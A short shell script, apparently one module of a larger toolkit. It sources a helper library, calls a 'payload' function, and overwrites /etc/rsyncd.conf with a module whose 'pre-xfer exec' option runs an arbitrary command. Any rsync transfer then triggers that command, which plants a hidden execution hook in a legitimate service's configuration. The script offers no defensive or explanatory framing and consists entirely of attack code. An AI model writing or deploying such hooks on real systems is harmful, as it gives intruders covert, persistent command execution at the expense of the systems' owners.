#!/bin/sh
# rsyncd: a command of rsyncd (rsyncd.conf(5), pre-xfer exec)
. "${0%/*}/lib.sh"
payload
put /etc/rsyncd.conf 644 "$head" "[data]" "path = /srv" "pre-xfer exec = $cmd"
